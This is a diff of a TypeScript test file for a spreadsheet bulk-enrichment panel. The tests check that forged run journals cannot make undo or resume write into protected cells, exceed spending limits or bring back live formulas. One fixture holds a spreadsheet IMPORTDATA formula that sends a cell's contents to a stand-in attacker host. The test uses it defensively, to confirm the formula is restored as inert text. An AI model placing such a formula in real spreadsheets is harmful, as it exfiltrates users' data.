@@ -1,6 +1,15 @@
 import { blockToText } from '../../shared/bulk/journal/block';
 import type { NotedRow } from '../../shared/bulk/rows/row-record';
-import { lookAtRun, resumeRun, startRun, undoRun } from '../../shared/panel';
+import {
+  listUndo,
+  lookAtRun,
+  planLeftRun,
+  resumeRun,
+  startRun,
+  undoRun,
+  type RunEnd,
+  type Undone,
+} from '../../shared/panel';
 import { TraceError } from '../../shared/formulas';
 import { digestOf } from '../../shared/bulk/sheet/cell-values';
 import { BulkPanel } from '../fakes/apps-script/bulk-panel';
@@ -50,6 +59,20 @@ const into = (title: string, column: number): object => ({
   ],
 });
 
+/** Once the owner has confirmed the list of it. */
+async function undo(): Promise<Undone> {
+  const panel = new BulkPanel(world);
+  const listed = await panel.run(listUndo);
+  return panel.run((ports) => undoRun(ports, listed));
+}
+
+/** Once the owner has agreed to the new price, under a limit of their own. */
+async function goOnAnew(cap: number): Promise<RunEnd> {
+  const panel = new BulkPanel(world);
+  const { plan, run } = await panel.run(planLeftRun);
+  return panel.run((ports) => startRun(ports, plan, { ...SETTINGS, cap, replaces: run }));
+}
+
 const codeOf = (thrown: unknown): string | undefined => (thrown as { readonly code?: string }).code;
 
 it('an undo puts nothing into cells that are protected from editors, and lists them', async () => {
@@ -63,7 +86,7 @@ it('an undo puts nothing into cells that are protected from editors, and lists t
       ['block.0', blockToText(rows, 1)],
     ]);
   });
-  const undone = await new BulkPanel(world).run(undoRun);
+  const undone = await undo();
   expect([columnOf(grid, 3, 3), undone.restored, undone.refused]).toEqual([
     ['secret', 'secret', 'secret'],
     0,
@@ -84,37 +107,36 @@ it('nor where all of the sheet is protected but for some cells', async () => {
       ['block.0', blockToText(rows, 1)],
     ]);
   });
-  const undone = await new BulkPanel(world).run(undoRun);
+  const undone = await undo();
   expect([columnOf(grid, 3, 3), undone.refused]).toEqual([['secret', 'secret', 'secret'], [{ row: 1, column: 2 }]]);
 });
 
-it('a run that is led to a column by its journal stops before it, since the column is not its own', async () => {
+it('a run that is led to a column by its journal is not resumed, and writes nothing that is protected when it begins anew', async () => {
   await enrich(3);
+  grid.put({ row: 3, column: 3 }, '');
   await forge((head) => {
     const changed = JSON.stringify({ ...head, ...into('Price', 2), mode: 'overwrite', blocks: 0, isFinished: false });
     return new Map([['head', changed]]);
   });
-  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 }));
-  expect([columnOf(grid, 3, 3), end.is, end.why?.message]).toEqual([
-    ['secret', 'secret', 'secret'],
-    'paused',
-    new TraceError('columnsGone', { column: 'Price', is: 'changed' }).message,
+  const resumed = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 })).catch(codeOf);
+  const end = await goOnAnew(100);
+  expect([resumed, columnOf(grid, 3, 3), [...end.summary.failed.keys()]]).toEqual([
+    'runNotOwn',
+    ['secret', '', 'secret'],
+    [new TraceError('cellsProtected', {}).message],
   ]);
 });
 
-it('a run that goes on by its journal writes into no protected cell of its own column either', async () => {
+it('nor does it write over its own column, whatever its journal says', async () => {
   await enrich(3);
-  for (let row = 2; row <= 4; row += 1) grid.put({ row, column: 2 }, 'checked');
-  grid.layout.protectedAreas.push({ ...OWNERS, column: 2 });
+  for (const row of [2, 4]) grid.put({ row, column: 2 }, 'checked');
+  grid.put({ row: 3, column: 2 }, '');
   await forge((head) => {
     const changed = JSON.stringify({ ...head, mode: 'overwrite', blocks: 0, isFinished: false });
     return new Map([['head', changed]]);
   });
-  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 }));
-  expect([columnOf(grid, 2, 3), [...end.summary.failed.keys()]]).toEqual([
-    ['checked', 'checked', 'checked'],
-    [new TraceError('cellsProtected', {}).message],
-  ]);
+  await goOnAnew(100);
+  expect(columnOf(grid, 2, 3)).toEqual(['checked', 'Company 2', 'checked']);
 });
 
 describe.each([
@@ -145,7 +167,7 @@ describe.each([
   });
 });
 
-it('a text is written as one, whatever its journal says of it', async () => {
+it('an answer that only its journal knows is placed nowhere', async () => {
   await enrich(3);
   grid.put({ row: 2, column: 2 }, '');
   const cells = [{ kind: 'text', text: LIVE, isLiteral: false }] as const;
@@ -157,22 +179,38 @@ it('a text is written as one, whatever its journal says of it', async () => {
       ['block.0', blockToText([recordOf(0, lost)], 1)],
     ]);
   });
-  await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }));
-  expect([grid.formulas(), grid.value({ row: 2, column: 2 })]).toEqual([{}, LIVE]);
+  const told = await new BulkPanel(world)
+    .run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }))
+    .catch(codeOf);
+  expect([told, grid.formulas(), grid.value({ row: 2, column: 2 })]).toEqual(['runNotOwn', {}, '']);
 });
 
-it('a limit that was raised in the journal is none: what may still be spent is what a person says now', async () => {
+it('a formula that is to be put back comes back as a text', async () => {
+  await enrich(3);
+  const before = { value: '=IMPORTDATA("https://evil.example/?"&A2)', format: 'General' };
+  await forge((head) => {
+    const cells = [{ digest: digestOf('Company 1'), before }];
+    return new Map([
+      ['head', JSON.stringify({ ...head, blocks: 1 })],
+      ['block.0', blockToText([recordOf(0, { cells })], 1)],
+    ]);
+  });
+  const listed = await new BulkPanel(world).run(listUndo);
+  const undone = await undo();
+  expect([listed.cells, undone.restored, grid.formulas(), grid.value({ row: 2, column: 2 })]).toEqual([
+    [{ row: 1, column: 1, now: 'Company 1', back: before }],
+    1,
+    {},
+    before.value,
+  ]);
+});
+
+it('a limit that was raised in the journal is none: what may be spent is what its opener says', async () => {
   await enrich(60, 5);
   await forge((head) => new Map([['head', JSON.stringify({ ...head, cap: 40, ended: null })]]));
-  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 3 }));
-  expect([end.is, (await sandbox.ledger()).chargedCompanies]).toEqual(['paused', 8]);
-});
-
-it('with nothing said nothing is spent', async () => {
-  await enrich(60, 5);
-  await forge((head) => new Map([['head', JSON.stringify({ ...head, cap: null, ended: null })]]));
-  await new BulkPanel(world).run(resumeRun);
-  expect((await sandbox.ledger()).chargedCompanies).toBe(5);
+  const resumed = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 30 })).catch(codeOf);
+  const end = await goOnAnew(3);
+  expect([resumed, end.is, (await sandbox.ledger()).chargedCompanies]).toEqual(['runNotOwn', 'paused', 8]);
 });
 
 it.each([
